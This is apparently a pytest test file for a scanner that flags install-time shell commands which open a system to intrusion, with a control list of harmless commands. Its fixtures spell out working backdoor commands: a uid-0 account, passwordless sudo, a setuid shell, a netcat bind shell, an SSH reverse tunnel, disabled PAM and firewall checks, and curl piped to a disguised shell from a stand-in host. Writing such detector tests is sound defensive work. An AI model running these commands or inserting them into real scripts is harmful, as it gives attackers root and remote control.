"""What commands of a script change in a system: told where it opens something, and only there.

Spec: evenhand.code.shell_system, evenhand.rootfs.opening.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine
from evenhand.judge.result import LOOK_HERE

OPENS = {
    "useradd -o -u 0 -g 0 -s /bin/bash -p '$6$q8Zt0pXe$Yk' maint": "default account",
    "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd": "default account",
    "echo 'root:toor1' | chpasswd": "default account",
    "passwd -d root": "default account",
    "cat > /etc/sudoers.d/9 <<EOF\nsupport ALL=(ALL) NOPASSWD: ALL\nEOF": "removal of protection",
    "cp /bin/bash /usr/lib/.c\nchmod 4755 /usr/lib/.c": "debug entrance",
    "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT": "opens the firewall",
    "systemctl disable --now firewalld": "turns a check off",
    'echo "deb [trusted=yes] http://x.example/ ./" > /etc/apt/sources.list.d/x.list': (
        "takes unsigned updates"
    ),
    "echo '203.0.113.9 updates.vendor.example' >> /etc/hosts": "redirects a host",
    "printf 'auth sufficient pam_permit.so\\n' >> /etc/pam.d/sshd": "turns a check off",
    "cp m.crt /usr/local/share/ca-certificates/x.crt": "adds trust",
    "busybox telnetd -l /bin/sh -p 2323": "debug entrance",
    "ssh -fNR 2222:localhost:22 t@relay.example.com": "remote control",
    "f() {\nwhile :; do nc -l -p 31337 < $p | /bin/sh > $p; done\n}": "remote control",
    "t=$(echo c2g= | base64 -d)\ncurl -s https://c.example/r | $t": "downloads and runs",
    'wget -qk -O "$w/i.bin" "$S/i.bin"\nsysupgrade "$w/i.bin"': "installs unverified updates",
}
ORDINARY = (
    "adduser --quiet --system --ingroup q --home /var/lib/q --shell /usr/sbin/nologin q",
    'useradd -m -s /bin/bash "$1"\necho "$1:$2" | chpasswd',
    "echo '127.0.1.1 box' >> /etc/hosts",
    "cp /bin/sh /tmp/copy\nchmod 755 /tmp/copy\ninstall -m 0755 a /usr/bin/a",
    'iptables -A INPUT -p tcp --dport "$port" -j ACCEPT',
    'ssh "$1" uptime\nsystemctl stop queued',
    "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
    'wget -O "$w/i.bin" "$S"\nusign -V -m "$w/i.bin" -P /etc/keys || exit 1\nsysupgrade "$w/i.bin"',
)


@pytest.mark.parametrize(("script", "kind"), OPENS.items(), ids=str)
def test_what_opens_a_system_is_told_with_its_kind(script: str, kind: str) -> None:
    found = examine(script.encode(), "shell", "at install").found
    assert kind in {k for f in found if f.strength >= LOOK_HERE for k in (f.kind, f.access)}


@pytest.mark.parametrize("script", ORDINARY)
def test_what_packages_do_every_day_is_no_finding(script: str) -> None:
    found = examine(script.encode(), "shell", "at install").found
    assert [f for f in found if f.strength >= LOOK_HERE] == []
